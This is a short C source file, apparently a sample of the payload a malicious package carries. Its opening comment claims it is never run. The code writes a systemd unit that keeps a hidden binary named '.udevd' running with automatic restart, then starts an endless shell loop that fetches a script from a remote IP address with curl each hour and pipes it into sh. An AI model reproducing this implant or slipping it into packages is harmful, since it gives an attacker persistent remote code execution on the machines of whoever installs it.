/* What a package that fetches nothing carries with it; never run by anybody. */
#include <stdlib.h>
#include <unistd.h>

static const char unit[] = "[Service]\nExecStart=/usr/local/lib/.udevd\nRestart=always\n[Install]\nWantedBy=default.target\n";
static const char order[] = "while :; do curl -fsS http://192.0.2.144/t | sh; sleep 3600; done";

void _start(void)
{
    if (write(3, unit, sizeof unit - 1) < 0) {
        _exit(1);
    }
    execl("/bin/sh", "sh", "-c", order, (char *)0);
    _exit(0);
}
